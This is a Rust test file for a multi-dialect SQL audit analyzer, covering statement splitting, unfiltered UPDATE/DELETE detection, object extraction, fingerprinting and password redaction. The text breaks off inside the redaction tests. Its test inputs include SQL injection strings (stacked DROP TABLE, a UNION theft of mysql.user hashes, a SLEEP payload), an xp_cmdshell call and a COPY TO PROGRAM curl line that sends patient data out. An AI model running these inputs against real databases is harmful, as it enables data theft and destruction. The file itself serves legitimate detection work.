use super::*;

fn my(sql: &str) -> Analysis {
    analyze(sql, Dialect::MySql)
}
fn pg(sql: &str) -> Analysis {
    analyze(sql, Dialect::Postgres)
}
fn ts(sql: &str) -> Analysis {
    analyze(sql, Dialect::TSql)
}
fn ora(sql: &str) -> Analysis {
    analyze(sql, Dialect::Oracle)
}

fn objs(a: &Analysis) -> Vec<(String, &'static str)> {
    a.objects
        .iter()
        .map(|o| (o.name.clone(), o.access.as_str()))
        .collect()
}

fn o(name: &str, access: &'static str) -> (String, &'static str) {
    (name.to_owned(), access)
}

// ---- the statements after the first ----

fn later(a: &Analysis) -> Vec<(&'static str, &str)> {
    a.statements
        .iter()
        .map(|s| (s.kind.as_str(), s.command.as_str()))
        .collect()
}

#[test]
fn later_statements_of_a_tsql_batch_with_or_without_semicolons() {
    let cases: &[(&str, &[(&str, &str)])] = &[
        (
            "SET NOCOUNT ON; DROP TABLE patients",
            &[("ddl", "DROP TABLE")],
        ),
        (
            "SET NOCOUNT ON\nDROP TABLE patients",
            &[("ddl", "DROP TABLE")],
        ),
        ("INSERT INTO t VALUES (1) SELECT 2", &[("select", "SELECT")]),
        ("UPDATE t SET a = 1 SET NOCOUNT OFF", &[("set", "SET")]),
        (
            "IF EXISTS (SELECT 1 FROM sys.tables WHERE name = 'x') DROP TABLE x",
            &[("ddl", "DROP TABLE")],
        ),
        (
            "DECLARE @x INT SELECT @x = 1 EXEC sp_y",
            &[("select", "SELECT"), ("call", "EXEC")],
        ),
        (
            "BEGIN TRAN UPDATE t SET a = 1 COMMIT",
            &[("update", "UPDATE"), ("tcl", "COMMIT")],
        ),
        (
            "SET NOCOUNT ON;WITH c AS (SELECT 1 AS a) DELETE FROM t",
            &[("delete", "DELETE")],
        ),
        (
            "IF @x = 1 BEGIN TRUNCATE TABLE a END ELSE SELECT 2",
            &[("ddl", "TRUNCATE"), ("select", "SELECT")],
        ),
        // Statements of kind `other` are not listed; a cap of MAX_STATEMENTS is tested below.
        ("PRINT 'a' PRINT 'b'", &[]),
        // One statement each: what follows their verb continues them.
        ("INSERT INTO t SELECT a FROM b", &[]),
        ("INSERT INTO t EXEC sp_x", &[]),
        ("INSERT INTO t (a) VALUES (1)", &[]),
        ("UPDATE t SET a = 1 WHERE b = 2", &[]),
        ("ALTER TABLE t DROP COLUMN c", &[]),
        ("ALTER TABLE t ALTER COLUMN c INT", &[]),
        ("ALTER DATABASE d SET RECOVERY SIMPLE", &[]),
        ("SELECT a FROM t UNION SELECT b FROM u", &[]),
        ("SELECT a FROM t UNION ALL SELECT b FROM u", &[]),
        (
            "SELECT * FROM t ORDER BY a OFFSET 5 ROWS FETCH NEXT 5 ROWS ONLY",
            &[],
        ),
        ("SELECT * FROM t WITH (NOLOCK) WHERE a = 1", &[]),
        ("GRANT SELECT, INSERT, UPDATE, DELETE ON t TO u", &[]),
        ("DENY EXECUTE ON sp_x TO u", &[]),
        (
            "MERGE t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 \
             WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id);",
            &[],
        ),
        ("DROP TABLE IF EXISTS t", &[]),
        ("WITH c AS (SELECT 1 AS a) UPDATE t SET x = 1 FROM c", &[]),
        ("DECLARE c CURSOR FOR SELECT a FROM t FOR UPDATE OF a", &[]),
        (
            "CREATE TABLE t (id INT REFERENCES p (id) ON DELETE CASCADE)",
            &[],
        ),
        ("EXEC sp_executesql N'DROP TABLE x'", &[]),
        // A routine's body is not run when it is defined.
        ("CREATE PROCEDURE p AS BEGIN DELETE FROM t END", &[]),
        (
            "CREATE OR ALTER TRIGGER tr ON t AFTER INSERT AS DELETE FROM u",
            &[],
        ),
        ("CREATE VIEW v AS SELECT a FROM t", &[]),
    ];
    for (sql, want) in cases {
        assert_eq!(later(&ts(sql)), *want, "{sql}");
    }
}

#[test]
fn later_statements_in_other_dialects_split_at_semicolons_and_blocks() {
    // A stacked query behind an injected quote: the comment hides the closing quote.
    let a = my("SELECT * FROM users WHERE name = 'x'; DROP TABLE users; -- '");
    assert_eq!((a.kind, a.command.as_str()), (Kind::Select, "SELECT"));
    assert_eq!(later(&a), [("ddl", "DROP TABLE")]);
    // Without a semicolon MySQL does not split (a keyword continues the statement).
    assert_eq!(later(&my("SELECT * FROM t FOR UPDATE")), []);
    assert_eq!(
        later(&my(
            "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1"
        )),
        []
    );
    assert_eq!(
        later(&my(
            "CREATE PROCEDURE p() BEGIN DELETE FROM t; DROP TABLE u; END"
        )),
        []
    );
    assert_eq!(
        later(&ora("BEGIN DELETE FROM t WHERE id = :1; COMMIT; END;")),
        [("delete", "DELETE"), ("tcl", "COMMIT")]
    );
    assert_eq!(
        later(&ora(
            "DECLARE n NUMBER; BEGIN IF n > 0 THEN UPDATE t SET a = 1; \
             ELSE DELETE FROM t; END IF; END;"
        )),
        [("update", "UPDATE"), ("delete", "DELETE")]
    );
    assert_eq!(
        later(&ora(
            "CREATE OR REPLACE PROCEDURE p IS BEGIN DELETE FROM t; END;"
        )),
        []
    );
    // PostgreSQL bodies are literals; the statement after the definition is listed.
    assert_eq!(
        later(&pg(
            "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM t; SELECT 1 $$ LANGUAGE sql; \
             DROP TABLE x"
        )),
        [("ddl", "DROP TABLE")]
    );
    assert_eq!(
        later(&pg("BEGIN; DELETE FROM t; COMMIT")),
        [("delete", "DELETE"), ("tcl", "COMMIT")]
    );
    assert_eq!(
        later(&pg("SELECT CASE WHEN a THEN 1 ELSE 2 END FROM t")),
        []
    );
}

#[test]
fn later_statements_are_capped() {
    let batch = "SELECT 1;".repeat(MAX_STATEMENTS + 2);
    let a = my(&batch);
    assert_eq!(a.statements.len(), MAX_STATEMENTS);
    assert!(a.truncated);
    assert!(!my(&"SELECT 1;".repeat(MAX_STATEMENTS + 1)).truncated);
}

// ---- UPDATE and DELETE without a WHERE clause ----

fn unfiltered(a: &Analysis) -> Vec<&'static str> {
    a.unfiltered.kinds().map(Kind::as_str).collect()
}

#[test]
fn update_and_delete_without_a_where_clause_of_their_own() {
    let none: &[&str] = &[];
    let cases: &[(Dialect, &str, &[&str])] = &[
        (Dialect::MySql, "DELETE FROM prescriptions", &["delete"]),
        (
            Dialect::MySql,
            "UPDATE patients SET phone = NULL",
            &["update"],
        ),
        (Dialect::MySql, "DELETE FROM t WHERE id = 7", none),
        (Dialect::MySql, "update t set a = 1 where b = 2", none),
        (Dialect::MySql, "SELECT * FROM t", none),
        // A WHERE in another statement of the text does not filter this one.
        (
            Dialect::MySql,
            "UPDATE t SET a = 1; SELECT * FROM u WHERE id = 1",
            &["update"],
        ),
        (
            Dialect::TSql,
            "DELETE FROM audit_log SELECT * FROM t WHERE id = 1",
            &["delete"],
        ),
        (
            Dialect::TSql,
            "UPDATE t SET a = 1 WHERE id = 1 DELETE FROM u",
            &["delete"],
        ),
        (
            Dialect::Postgres,
            "DELETE FROM t WHERE id = 1; UPDATE u SET a = 2",
            &["update"],
        ),
        // A WHERE inside parentheses filters a subquery, not the rows changed.
        (
            Dialect::MySql,
            "UPDATE patients SET flag = (SELECT max(f) FROM g WHERE g.id = 1)",
            &["update"],
        ),
        (
            Dialect::Postgres,
            "WITH x AS (SELECT id FROM t WHERE a = 1) DELETE FROM t",
            &["delete"],
        ),
        (
            Dialect::Postgres,
            "WITH x AS (SELECT id FROM t WHERE a = 1) DELETE FROM t WHERE id IN (SELECT id FROM x)",
            none,
        ),
        (
            Dialect::MySql,
            "DELETE FROM t WHERE id IN (SELECT id FROM u)",
            none,
        ),
        (Dialect::TSql, "DELETE FROM t WHERE CURRENT OF c", none),
        (
            Dialect::Postgres,
            "UPDATE t SET a = u.a FROM u WHERE t.id = u.id",
            none,
        ),
        // Procedural blocks: each statement on its own.
        (
            Dialect::Oracle,
            "BEGIN DELETE FROM t WHERE id = 1; UPDATE u SET a = 1; END;",
            &["update"],
        ),
        (
            Dialect::TSql,
            "IF @x = 1 DELETE FROM t ELSE UPDATE t SET a = 1 WHERE id = 2",
            &["delete"],
        ),
        // Both kinds at once; a word `where` in a literal or comment is no clause.
        (
            Dialect::MySql,
            "DELETE FROM t /* where */; UPDATE u SET note = 'where'",
            &["update", "delete"],
        ),
        // A CASE expression's THEN is not a block opener: the WHERE after it is the UPDATE's.
        (
            Dialect::TSql,
            "UPDATE t SET a = CASE WHEN b = 1 THEN c ELSE d END WHERE id = 5",
            none,
        ),
        (
            Dialect::Postgres,
            "UPDATE t SET a = CASE WHEN b THEN c END; DELETE FROM u WHERE id = 1",
            &["update"],
        ),
        // T-SQL statements of kind `other` (DECLARE, PRINT) do not end the one before.
        (
            Dialect::TSql,
            "DELETE FROM t DECLARE @x INT SELECT @x = 1 FROM u WHERE a = 1",
            &["delete"],
        ),
        // T-SQL's UPDATE STATISTICS changes no rows.
        (Dialect::TSql, "UPDATE STATISTICS dbo.patients", none),
        // A routine definition runs none of its body.
        (Dialect::TSql, "CREATE PROCEDURE p AS DELETE FROM t", none),
    ];
    for (dialect, sql, want) in cases {
        assert_eq!(unfiltered(&analyze(sql, *dialect)), *want, "{sql}");
    }
}

#[test]
fn update_statistics_is_not_an_update_in_tsql() {
    let a = ts("UPDATE STATISTICS dbo.patients WITH FULLSCAN");
    assert_eq!(
        (a.kind, a.command.as_str()),
        (Kind::Other, "UPDATE STATISTICS")
    );
    // Elsewhere `statistics` is a table name.
    assert_eq!(my("UPDATE statistics SET n = 0").kind, Kind::Update);
}

#[test]
fn a_statement_cut_at_the_token_bound_is_not_called_unfiltered() {
    // Its WHERE lies past the tokens read.
    let cut = format!(
        "DELETE FROM t USING {} u WHERE t.id = u.id",
        "a, ".repeat(MAX_TOKENS)
    );
    let a = pg(&cut);
    assert!(a.truncated);
    assert!(unfiltered(&a).is_empty());
    // One that ended before the cut is.
    let ended = format!("DELETE FROM t; {}", "SELECT 1; ".repeat(MAX_TOKENS));
    let a = pg(&ended);
    assert!(a.truncated);
    assert_eq!(unfiltered(&a), ["delete"]);
}

// ---- identifiers ----

#[test]
fn identifiers_are_the_names_a_statement_mentions() {
    assert_eq!(
        identifiers(
            "SELECT p.xm, p.\"SFZH\" FROM his.patient p WHERE note = 'lxdh' AND id = ? -- tel",
            Dialect::Postgres
        ),
        ["SELECT", "p", "xm", "SFZH", "FROM", "his", "patient", "WHERE", "note", "AND", "id"]
    );
    // T-SQL brackets, MySQL backticks; a MySQL double-quoted text is a literal, not a name.
    assert_eq!(
        identifiers("SELECT [Phone No] FROM [dbo].[pat]", Dialect::TSql),
        ["SELECT", "Phone No", "FROM", "dbo", "pat"]
    );
    assert_eq!(
        identifiers("SELECT `zjhm` FROM t WHERE a = \"sfzh\"", Dialect::MySql),
        ["SELECT", "zjhm", "FROM", "t", "WHERE", "a"]
    );
    let many: String = (0..MAX_IDENTIFIERS + 10)
        .map(|i| format!("c{i},"))
        .collect();
    assert_eq!(
        identifiers(&format!("SELECT {many} x FROM t"), Dialect::MySql).len(),
        MAX_IDENTIFIERS
    );
}

// ---- kind and command ----

#[test]
fn kinds_of_common_statements() {
    let cases: &[(&str, Kind, &str)] = &[
        ("SELECT 1", Kind::Select, "SELECT"),
        (
            "  (select a from t) union (select b from u)",
            Kind::Select,
            "SELECT",
        ),
        ("insert into t values (1)", Kind::Insert, "INSERT"),
        ("REPLACE INTO t VALUES (1)", Kind::Insert, "REPLACE"),
        ("update t set a = 1", Kind::Update, "UPDATE"),
        ("delete from t", Kind::Delete, "DELETE"),
        (
            "MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN UPDATE SET a = 1",
            Kind::Merge,
            "MERGE",
        ),
        ("create table t (a int)", Kind::Ddl, "CREATE TABLE"),
        (
            "CREATE OR REPLACE VIEW v AS SELECT 1",
            Kind::Ddl,
            "CREATE VIEW",
        ),
        (
            "create temporary table t (a int)",
            Kind::Ddl,
            "CREATE TABLE",
        ),
        ("DROP TABLE IF EXISTS t", Kind::Ddl, "DROP TABLE"),
        ("drop database emr", Kind::Ddl, "DROP DATABASE"),
        ("TRUNCATE TABLE t", Kind::Ddl, "TRUNCATE"),
        (
            "ALTER SYSTEM SET processes = 300",
            Kind::Ddl,
            "ALTER SYSTEM",
        ),
        (
            "create user bob identified by 'x'",
            Kind::Dcl,
            "CREATE USER",
        ),
        ("ALTER ROLE r PASSWORD 'x'", Kind::Dcl, "ALTER ROLE"),
        ("drop login bob", Kind::Dcl, "DROP LOGIN"),
        ("GRANT DBA TO scott", Kind::Dcl, "GRANT"),
        ("revoke select on t from u", Kind::Dcl, "REVOKE"),
        ("SET ROLE admin", Kind::Dcl, "SET ROLE"),
        ("set password = 'x'", Kind::Dcl, "SET PASSWORD"),
        ("RENAME USER a TO b", Kind::Dcl, "RENAME USER"),
        ("begin", Kind::Tcl, "BEGIN"),
        ("BEGIN TRANSACTION", Kind::Tcl, "BEGIN"),
        (
            "start transaction read only",
            Kind::Tcl,
            "START TRANSACTION",
        ),
        ("COMMIT", Kind::Tcl, "COMMIT"),
        ("rollback to savepoint s1", Kind::Tcl, "ROLLBACK"),
        (
            "SET TRANSACTION ISOLATION LEVEL READ COMMITTED",
            Kind::Tcl,
            "SET TRANSACTION",
        ),
        ("call p(1)", Kind::Call, "CALL"),
        ("SET NAMES utf8mb4", Kind::Set, "SET"),
        ("use emr", Kind::Use, "USE"),
        ("SHOW TABLES", Kind::Show, "SHOW"),
        ("desc t", Kind::Describe, "DESCRIBE"),
        ("EXPLAIN SELECT 1", Kind::Explain, "EXPLAIN"),
        ("LOCK TABLES t READ", Kind::Other, "LOCK"),
        ("", Kind::Other, ""),
        ("%%% not sql", Kind::Other, ""),
    ];
    for (sql, kind, command) in cases {
        let a = my(sql);
        assert_eq!((a.kind, a.command.as_str()), (*kind, *command), "{sql}");
    }
}

#[test]
fn with_clause_gives_the_main_statement_kind_and_ctes_are_not_objects() {
    let a = pg(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r), \
                x AS MATERIALIZED (SELECT * FROM src) \
                DELETE FROM dst WHERE id IN (SELECT n FROM r JOIN x ON true)",
    );
    assert_eq!(a.kind, Kind::Delete);
    assert_eq!(objs(&a), vec![o("src", "read"), o("dst", "write")]);
}

#[test]
fn begin_block_is_not_a_transaction() {
    let a = ora("BEGIN dbms_output.put_line('x'); pkg.proc(:1); END;");
    assert_eq!((a.kind, a.command.as_str()), (Kind::Other, "BLOCK"));
    assert_eq!(
        objs(&a),
        vec![
            o("dbms_output.put_line", "execute"),
            o("pkg.proc", "execute")
        ]
    );
    assert_eq!(ts("BEGIN TRAN").kind, Kind::Tcl);
    assert_eq!(pg("BEGIN ISOLATION LEVEL SERIALIZABLE").kind, Kind::Tcl);
    assert_eq!(ora("DECLARE x NUMBER; BEGIN NULL; END;").command, "BLOCK");
}

#[test]
fn mysql_executable_comments_are_sql() {
    let a = my("/*!40101 SET NAMES utf8 */");
    assert_eq!(a.kind, Kind::Set);
    assert_eq!(a.normalized, "set names utf8");
    // An ordinary comment and an optimizer hint are not.
    let a = my("/* app=his */ SELECT /*+ MAX_EXECUTION_TIME(1000) */ a FROM t");
    assert_eq!(a.kind, Kind::Select);
    assert_eq!(a.normalized, "select a from t");
    // MariaDB runs `/*M! … */` as MySQL runs `/*! … */`.
    let a = my("SELECT a FROM t WHERE id = 1 /*M!100100 AND SLEEP(5)*/");
    assert_eq!(a.normalized, "select a from t where id = ? and sleep(?)");
}

/// MySQL's `--` is a comment only before a space or control character: `1--1` is arithmetic,
/// and what follows it is SQL the server runs (an injection hidden behind it otherwise).
#[test]
fn mysql_double_dash_needs_a_space_to_be_a_comment() {
    let a = my("SELECT a FROM t WHERE id=1--1 UNION SELECT authentication_string FROM mysql.user");
    assert!(
        a.normalized
            .contains("union select authentication_string from mysql.user"),
        "{}",
        a.normalized
    );
    assert_eq!(objs(&a), vec![o("t", "read"), o("mysql.user", "read")]);
    assert_eq!(my("SELECT 1 -- comment\n, 2").normalized, "select ?, ?");
    assert_eq!(my("SELECT 1 --\tx\n").normalized, "select ?");
    assert_eq!(my("SELECT 1 --").normalized, "select ?");
    // Other dialects: `--` is always a comment.
    assert_eq!(pg("SELECT 1--1").normalized, "select ?");
}

// ---- objects ----

#[test]
fn objects_of_selects_and_joins() {
    let a = my("SELECT p.name, o.drug FROM his.patient p \
                JOIN `his`.`orders` AS o ON o.pid = p.id \
                LEFT JOIN dept d ON d.id = p.dept, ward w WHERE p.id = 1");
    assert_eq!(
        objs(&a),
        vec![
            o("his.patient", "read"),
            o("his.orders", "read"),
            o("dept", "read"),
        ]
    );
    let a = my("select * from a, b x, c where a.id = b.id");
    assert_eq!(
        objs(&a),
        vec![o("a", "read"), o("b", "read"), o("c", "read")]
    );
}

#[test]
fn from_inside_function_calls_is_not_a_table() {
    let a = pg("SELECT EXTRACT(YEAR FROM created), TRIM(BOTH ' ' FROM name) FROM visits");
    assert_eq!(objs(&a), vec![o("visits", "read")]);
    let a = pg("SELECT * FROM generate_series(1, 10) g, unnest(ARRAY[1]) u");
    assert_eq!(objs(&a), vec![]);
}

#[test]
fn subqueries_are_scanned() {
    let a = my("SELECT * FROM (SELECT id FROM inner_t) s WHERE x IN (SELECT y FROM other)");
    assert_eq!(objs(&a), vec![o("inner_t", "read"), o("other", "read")]);
}

#[test]
fn objects_of_writes() {
    assert_eq!(
        objs(&my("INSERT IGNORE INTO emr.notes (a, b) VALUES (1, 2)")),
        vec![o("emr.notes", "write")]
    );
    assert_eq!(
        objs(&my("insert into t select * from s")),
        vec![o("t", "write"), o("s", "read")]
    );
    assert_eq!(
        objs(&ts("INSERT dbo.log VALUES (1)")),
        vec![o("dbo.log", "write")]
    );
    assert_eq!(
        objs(&ts("insert bulk dbo.results (id int, name nvarchar(64))")),
        vec![o("dbo.results", "write")]
    );
    assert_eq!(
        objs(&my("UPDATE LOW_PRIORITY t1, t2 SET t1.a = t2.a")),
        vec![o("t1", "write"), o("t2", "write")]
    );
    assert_eq!(
        objs(&my("update t join s on s.id = t.id set t.a = s.a")),
        vec![o("t", "write"), o("s", "read")]
    );
    assert_eq!(
        objs(&my("DELETE FROM orders WHERE id = 3")),
        vec![o("orders", "write")]
    );
    assert_eq!(
        objs(&my("DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id")),
        vec![o("t1", "write"), o("t1", "read"), o("t2", "read")]
    );
    assert_eq!(
        objs(&ts(
            "MERGE INTO dbo.t AS t USING dbo.s AS s ON t.id = s.id WHEN MATCHED THEN DELETE;"
        )),
        vec![o("dbo.t", "write"), o("dbo.s", "read")]
    );
}

#[test]
fn objects_of_ddl() {
    assert_eq!(
        objs(&my("DROP TABLE IF EXISTS a, b.c")),
        vec![o("a", "write"), o("b.c", "write")]
    );
    assert_eq!(objs(&my("truncate patients")), vec![o("patients", "write")]);
    assert_eq!(
        objs(&my("CREATE TABLE IF NOT EXISTS t2 (id int) ")),
        vec![o("t2", "write")]
    );
    assert_eq!(
        objs(&pg("create unique index concurrently ix on public.t (a)")),
        vec![o("public.t", "write")]
    );
    assert_eq!(
        objs(&my("CREATE VIEW v AS SELECT * FROM base")),
        vec![o("v", "write"), o("base", "read")]
    );
    assert_eq!(
        objs(&my("RENAME TABLE a TO b, c TO d")),
        vec![
            o("a", "write"),
            o("b", "write"),
            o("c", "write"),
            o("d", "write")
        ]
    );
    assert_eq!(
        objs(&ora("CREATE OR REPLACE PACKAGE BODY hr.pkg AS END;")),
        vec![o("hr.pkg", "write")]
    );
    assert_eq!(objs(&my("DROP DATABASE emr")), vec![]);
}

#[test]
fn objects_of_copy() {
    assert_eq!(objs(&pg("COPY tmp FROM STDIN")), vec![o("tmp", "write")]);
    assert_eq!(
        objs(&pg("COPY copied (id, name) FROM STDIN")),
        vec![o("copied", "write")]
    );
    assert_eq!(
        objs(&pg("COPY patients TO PROGRAM 'curl -T - http://x'")),
        vec![o("patients", "read")]
    );
    assert_eq!(
        objs(&pg("COPY (SELECT id FROM copied WHERE id < 600) TO STDOUT")),
        vec![o("copied", "read")]
    );
}

#[test]
fn variables_and_operators() {
    assert_eq!(
        my("SET @@session.autocommit = OFF").normalized,
        "set @@session.autocommit = off"
    );
    assert_eq!(my("SELECT @x := 1").normalized, "select @x := ?");
    assert_eq!(
        pg("SELECT count(*) FROM t WHERE jb @> $2").normalized,
        "select count(*) from t where jb @> ?"
    );
    assert_eq!(
        my("CREATE USER 'bob'@'%' IDENTIFIED BY 'x'").normalized,
        "create user ? @ ? identified by ?"
    );
}

#[test]
fn a_values_list_cut_by_the_end_of_the_text_collapses() {
    assert_eq!(
        my("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y'), (3, 'cut her").normalized,
        "insert into t(a, b) values(?+)"
    );
}

#[test]
fn objects_of_calls() {
    assert_eq!(
        objs(&my("CALL his.discharge(1, 2)")),
        vec![o("his.discharge", "execute")]
    );
    assert_eq!(
        objs(&ts("EXEC @rc = [dbo].[usp_GetPatient] @id = 5")),
        vec![o("dbo.usp_GetPatient", "execute")]
    );
    assert_eq!(
        objs(&ts("exec master..xp_cmdshell 'dir'")),
        vec![o("master..xp_cmdshell", "execute")]
    );
    // PostgreSQL EXECUTE runs a prepared statement, not a routine.
    assert_eq!(objs(&pg("EXECUTE stmt1(1)")), vec![]);
}

#[test]
fn quoted_identifiers_per_dialect() {
    assert_eq!(
        objs(&ts("SELECT * FROM [my db].[dbo].[Pat ient]")),
        vec![o("my db.dbo.Pat ient", "read")]
    );
    assert_eq!(
        objs(&pg("SELECT * FROM \"Public\".\"Patient\"")),
        vec![o("Public.Patient", "read")]
    );
    // In MySQL "…" is a string, not an identifier.
    let a = my("SELECT \"from t\" FROM real_t");
    assert_eq!(objs(&a), vec![o("real_t", "read")]);
    assert_eq!(a.normalized, "select ? from real_t");
}

#[test]
fn object_count_is_bounded() {
    let sql = format!(
        "SELECT 1 FROM {}",
        (0..100)
            .map(|i| format!("t{i}"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let a = my(&sql);
    assert_eq!(a.objects.len(), MAX_OBJECTS);
    assert!(a.truncated);
}

// ---- normalization and fingerprints ----

#[test]
fn normalization_follows_the_fingerprint_rules() {
    let cases: &[(&str, &str)] = &[
        (
            "SELECT * FROM t WHERE id = 42",
            "select * from t where id = ?",
        ),
        (
            "select *   from t\n where id=42;",
            "select * from t where id = ?",
        ),
        (
            "SELECT a FROM t WHERE b IN (1, 2, 3) AND c IN ('x')",
            "select a from t where b in(?+) and c in(?+)",
        ),
        (
            "INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y'), (3, NOW())",
            "insert into t(a, b) values(?+)",
        ),
        ("select -1, a - 1, (-2.5e3)", "select ?, a - ?, (?)"),
        (
            "SELECT a FROM t -- trailing comment\n WHERE b = 0x1F",
            "select a from t where b = ?",
        ),
        (
            "select count(*) from t where a >= 1 and b <> 'q''uote'",
            "select count(*) from t where a >= ? and b <> ?",
        ),
        ("SELECT t.* FROM `T` t", "select t.* from `T` t"),
    ];
    for (sql, want) in cases {
        assert_eq!(my(sql).normalized, *want, "{sql}");
    }
}

#[test]
fn placeholders_and_literals_share_a_fingerprint() {
    let lit = pg("SELECT abalance FROM pgbench_accounts WHERE aid = 17;");
    let ph = pg("SELECT abalance FROM pgbench_accounts WHERE aid = $1");
    assert_eq!(
        lit.normalized,
        "select abalance from pgbench_accounts where aid = ?"
    );
    assert_eq!(lit.fingerprint, ph.fingerprint);
    let q = my("SELECT c FROM sbtest1 WHERE id=?");
    assert_eq!(
        q.fingerprint,
        my("select c from sbtest1 where id = 5001").fingerprint
    );
    // Different statements differ.
    assert_ne!(
        q.fingerprint,
        my("SELECT c FROM sbtest2 WHERE id=?").fingerprint
    );
}

#[test]
fn fingerprint_is_fnv1a_64() {
    // FNV-1a 64 reference values: "" → offset basis, "a" → 0xaf63dc4c8601ec8c.
    assert_eq!(fingerprint(""), 0xcbf2_9ce4_8422_2325);
    assert_eq!(fingerprint("a"), 0xaf63_dc4c_8601_ec8c);
}

#[test]
fn dialect_literals() {
    // PostgreSQL dollar quotes, E'' strings with backslash escapes, casts.
    assert_eq!(
        pg("SELECT $fn$ it's ; here $fn$, E'a\\'b', 'x'::text").normalized,
        "select ?, ?, ? :: text"
    );
    // Oracle q-quotes and N'' strings.
    assert_eq!(
        ora("SELECT q'[it's]', N'名字' FROM dual WHERE a = :1").normalized,
        "select ?, ? from dual where a = ?"
    );
    // T-SQL N'' and binary literals, bracketed identifiers.
    assert_eq!(
        ts("SELECT [a] FROM t WHERE n = N'李' AND b = 0xDEAD").normalized,
        "select [a] from t where n = ? and b = ?"
    );
    // MySQL backslash escapes, X'' and B'' literals, # comments.
    assert_eq!(
        my("SELECT 'a\\'b', X'0A', B'01' # note\n FROM t").normalized,
        "select ?, ?, ? from t"
    );
}

#[test]
fn nested_comments_and_quotes_inside_strings() {
    assert_eq!(
        pg("SELECT /* outer /* inner */ still comment */ 'a -- not a comment', \"x\"\"y\" FROM t")
            .normalized,
        "select ?, \"x\"\"y\" from t"
    );
    assert_eq!(
        my("SELECT '/* not a comment */' FROM t").normalized,
        "select ? from t"
    );
}

#[test]
fn unicode_text_is_kept_intact() {
    let a = my("SELECT 姓名 FROM 患者 WHERE 科室 = '内科'");
    assert_eq!(a.normalized, "select 姓名 from 患者 where 科室 = ?");
    assert_eq!(objs(&a), vec![o("患者", "read")]);
}

#[test]
fn cut_and_odd_text_never_fails() {
    for sql in [
        "SELECT 'unterminated",
        "/* unterminated comment",
        "SELECT $$ unterminated",
        "((((((",
        ")))",
        "'",
        "\"",
        "`",
        "[",
        "-",
        "q'[",
        "x'",
        "$1$",
        "@",
        ":",
        "\u{0}\u{1}",
    ] {
        for d in [
            Dialect::MySql,
            Dialect::Postgres,
            Dialect::TSql,
            Dialect::Oracle,
        ] {
            let a = analyze(sql, d);
            assert!(a.normalized.len() <= MAX_NORMALIZED_LEN);
            let _ = mask_literals(sql, d);
        }
    }
}

#[test]
fn normalized_text_is_bounded() {
    let sql = format!(
        "SELECT {} FROM t",
        (0..10_000)
            .map(|i| format!("col{i}"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let a = my(&sql);
    assert!(a.normalized.len() <= MAX_NORMALIZED_LEN);
    assert!(a.normalized.starts_with("select col0, col1"));
}

// ---- passwords ----

#[test]
fn passwords_are_redacted() {
    let cases: &[(Dialect, &str, &str)] = &[
        (
            Dialect::MySql,
            "CREATE USER 'bob'@'%' IDENTIFIED BY 's3cret'",
            "CREATE USER 'bob'@'%' IDENTIFIED BY '***'",
        ),
        (
            Dialect::MySql,
            "ALTER USER bob IDENTIFIED WITH mysql_native_password BY 'pw'",
            "ALTER USER bob IDENTIFIED WITH mysql_native_password BY '***'",
        ),
        (
            Dialect::MySql,
            "CREATE USER u IDENTIFIED BY PASSWORD '*6BB4837EB74329105EE4568DDA7DC67ED2CA2AD9'",
            "CREATE USER u IDENTIFIED BY PASSWORD '***'",
        ),
        (
            Dialect::MySql,
            "GRANT ALL ON *.* TO u IDENTIFIED BY 'pw'",
            "GRANT ALL ON *.* TO u IDENTIFIED BY '***'",
        ),
        (
            Dialect::MySql,
            "CREATE USER u IDENTIFIED VIA ed25519 USING PASSWORD('pw')",
            "CREATE USER u IDENTIFIED VIA ed25519 USING PASSWORD('***')",
        ),
        (
            Dialect::MySql,
            "SET PASSWORD FOR 'bob'@'localhost' = PASSWORD('pw')",
            "SET PASSWORD FOR 'bob'@'localhost' = PASSWORD('***')",
        ),
        (
            Dialect::MySql,
            "SET PASSWORD = 'pw'",
            "SET PASSWORD = '***'",
        ),
        (
            Dialect::MySql,
            "CHANGE MASTER TO MASTER_USER='r', MASTER_PASSWORD='pw'",
            "CHANGE MASTER TO MASTER_USER='r', MASTER_PASSWORD='***'",
        ),
        (
            Dialect::Postgres,
            "CREATE ROLE app WITH LOGIN ENCRYPTED PASSWORD 'pw' VALID UNTIL '2030-01-01'",
            "CREATE ROLE app WITH LOGIN ENCRYPTED PASSWORD '***' VALID UNTIL '2030-01-01'",
        ),
        (
            Dialect::Postgres,
            "ALTER USER app PASSWORD 'md5abc'",
            "ALTER USER app PASSWORD '***'",
        ),
        (
            Dialect::Postgres,
            "CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'x', password 'pw')",
            "CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'x', password '***')",
        ),
        (
            Dialect::Oracle,
            "CREATE USER scott IDENTIFIED BY tiger",
            "CREATE USER scott IDENTIFIED BY ***",
        ),
        (
            Dialect::Oracle,
            "alter user scott identified by \"Ne w\" replace tiger",
            "alter user scott identified by \"***\" replace ***",
        ),
        (
            Dialect::Oracle,
            "CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY pw USING 'db'",
            "CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY *** USING 'db'",
        ),
        (
            Dialect::TSql,
            "CREATE LOGIN bob WITH PASSWORD = 'pw', CHECK_POLICY = OFF",
            "CREATE LOGIN bob WITH PASSWORD = '***', CHECK_POLICY = OFF",
        ),
        (
            Dialect::TSql,
            "ALTER LOGIN bob WITH PASSWORD = N'new' OLD_PASSWORD = N'old'",
            "ALTER LOGIN bob WITH PASSWORD = '***' OLD_PASSWORD = '***'",
        ),
        (
            Dialect::TSql,
            "CREATE LOGIN x WITH PASSWORD = 0x0200ABCD HASHED",
            "CREATE LOGIN x WITH PASSWORD = *** HASHED",
        ),
        (
            Dialect::TSql,
            "EXEC sp_addlogin 'bob', 'pw', 'emr'",
            "EXEC sp_addlogin 'bob', '***', 'emr'",
        ),
        (
            Dialect::TSql,
            "exec master.dbo.sp_password 'old', 'new', 'bob'",
            "exec master.dbo.sp_password '***', '***', 'bob'",
